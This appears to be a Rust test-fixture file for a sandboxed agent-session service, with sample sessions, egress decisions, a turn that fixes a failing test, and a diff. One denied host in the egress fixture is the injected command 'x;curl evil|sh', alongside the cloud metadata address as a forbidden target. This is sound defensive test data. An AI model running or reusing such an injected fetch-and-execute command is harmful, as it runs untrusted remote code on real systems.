//! Sessions, events and outcomes with fixed ids and times.

use jiff::{SignedDuration, Timestamp};
use serde_json::json;
use session_core::activity::{StallAction, StallCause};
use session_core::budget::BudgetLimit;
use session_core::egress::{DenialReason, EgressRequest, HostRule};
use session_core::event::{Event, EventKind};
use session_core::gateway::ModelFailure;
use session_core::id::{CommandId, SessionId, TurnId};
use session_core::session::{ChangedFile, SessionInfo, WorkspaceDiff};
use session_core::turn::{TokenUsage, TurnOutcome, TurnStatus};

/// Must be found nowhere.
pub(crate) const CANARY_KEY: &str = "sk-canary-0123456789abcdef";

pub(crate) fn session_id(first: char) -> SessionId {
    format!("{first}1d4fae0-7dec-41d0-a765-00a0c91e6bf6")
        .parse()
        .unwrap()
}

pub(crate) fn turn_id() -> TurnId {
    "77777777-7777-4777-8777-777777777777".parse().unwrap()
}

pub(crate) fn command_id() -> CommandId {
    "cccccccc-cccc-4ccc-8ccc-cccccccccccc".parse().unwrap()
}

pub(crate) fn start() -> Timestamp {
    "2026-01-02T03:04:05Z".parse().unwrap()
}

pub(crate) fn session(first: char, name: Option<&str>, state: serde_json::Value) -> SessionInfo {
    let mut info = json!({
        "id": session_id(first),
        "created_at": start(),
        "updated_at": start(),
        "image": "cofferdam-session:latest",
        "network": "sealed",
        "limits": {"memory_bytes": 4_u64 << 30, "milli_cpus": 2000, "pids": 1024},
        "workspace": {"kind": "copy", "path": "/work/project"},
        "user": {"uid": 1000, "gid": 1000},
        "agent": "claude",
        "turns": 1,
        "last_event": 12,
        "cost_usd": 0.0123,
    });
    if let Some(name) = name {
        info["name"] = name.into();
    }
    for (key, value) in state.as_object().unwrap() {
        info[key] = value.clone();
    }
    serde_json::from_value(info).unwrap()
}

pub(crate) fn ready(first: char, name: Option<&str>) -> SessionInfo {
    session(first, name, json!({"state": "ready"}))
}

pub(crate) fn event(session: SessionId, seq: u64, turn: Option<TurnId>, kind: EventKind) -> Event {
    let since = SignedDuration::from_millis(i64::try_from(seq).unwrap() * 700);
    Event {
        session,
        seq,
        at: start() + since,
        turn,
        kind,
    }
}

pub(crate) fn outcome(status: TurnStatus) -> TurnOutcome {
    TurnOutcome {
        status,
        text: "The test passes now.".to_owned(),
        usage: TokenUsage {
            input: 1200,
            output: 340,
            cache_read: 10_000,
            cache_creation: 0,
        },
        cost_usd: Some(0.0123),
        model_calls: 5,
        duration_ms: 14_200,
        permission_denials: Vec::new(),
        failure: None,
    }
}

/// What happens at the doors of a session and to an agent that hangs.
pub(crate) fn doors() -> Vec<EventKind> {
    let denied = |host: &str, reason| EventKind::EgressDenied {
        host: host.to_owned(),
        port: 443,
        reason,
    };
    vec![
        EventKind::EgressAllowed {
            host: "registry.example.com".to_owned(),
            port: 443,
            rule: "*.example.com".to_owned(),
        },
        denied("files.example.org", DenialReason::NotAllowed),
        denied("x;curl evil|sh", DenialReason::NotAllowed),
        denied("169.254.169.254", DenialReason::ForbiddenAddress),
        EventKind::EgressDecided {
            rule: "files.example.org:443".parse().unwrap(),
            allow: true,
            for_all: false,
        },
        EventKind::BudgetSpent {
            limit: BudgetLimit::Cost,
            today: false,
        },
        EventKind::ModelFailing {
            failure: ModelFailure::Unauthorized,
        },
        EventKind::ProviderChanged {
            to: "spare".to_owned(),
        },
        EventKind::PermissionAsked {
            call: "t9".to_owned(),
            tool: "Bash".to_owned(),
        },
        EventKind::AgentStalled {
            cause: StallCause::ModelUnreachable,
            for_ms: 125_000,
            action: StallAction::Interrupt,
        },
        EventKind::AgentRecovered {
            cause: StallCause::ModelUnreachable,
            for_ms: 130_000,
        },
    ]
}

/// A host that a session was denied.
pub(crate) fn waiting(session: char, host: &str) -> EgressRequest {
    EgressRequest {
        session: session_id(session),
        host: host.to_owned(),
        port: 443,
        rule: HostRule::exact(host, 443).unwrap(),
        first_at: start(),
        last_at: start(),
        times: 1234,
    }
}

/// A turn as a real one goes.
pub(crate) fn work() -> Vec<EventKind> {
    vec![
        EventKind::TurnQueued {
            prompt: "Make the failing test pass".to_owned(),
        },
        EventKind::TurnStarted,
        EventKind::AgentReady {
            model: Some("claude-sonnet-4-5".to_owned()),
            tools: vec!["Bash".to_owned(), "Edit".to_owned()],
        },
        EventKind::AgentThinking {
            text: "Where are the tests?".to_owned(),
        },
        EventKind::AgentText {
            text: "I will look at the tests first.\nThen I fix the bug.".to_owned(),
        },
        EventKind::ToolCall {
            id: "t1".to_owned(),
            tool: "Bash".to_owned(),
            input: json!({"command": "python3 -m unittest", "description": "Run the tests"}),
        },
        EventKind::ToolResult {
            id: "t1".to_owned(),
            is_error: true,
            text: "F\nFAIL: test_add\nTraceback\n  line 3\nAssertionError\n\nRan 1 test\nFAILED (failures=1)"
                .to_owned(),
        },
        EventKind::ToolCall {
            id: "t2".to_owned(),
            tool: "Edit".to_owned(),
            input: json!({"file_path": "/workspace/calc.py", "old_string": "a - b", "new_string": "a + b"}),
        },
        EventKind::ToolResult {
            id: "t2".to_owned(),
            is_error: false,
            text: "The file /workspace/calc.py has been updated.".to_owned(),
        },
        EventKind::ModelRetry {
            attempt: 1,
            delay_ms: 1500,
            reason: "529 overloaded_error".to_owned(),
        },
        EventKind::AgentText {
            text: "The test passes now.".to_owned(),
        },
    ]
}

pub(crate) fn diff() -> WorkspaceDiff {
    WorkspaceDiff {
        patch:
            "diff --git a/calc.py b/calc.py\nindex 1111111..2222222 100644\n--- a/calc.py\n+++ b/calc.py\n\
                @@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n"
                .to_owned(),
        files: vec![ChangedFile {
            status: 'M',
            path: "calc.py".to_owned(),
        }],
        truncated: false,
    }
}
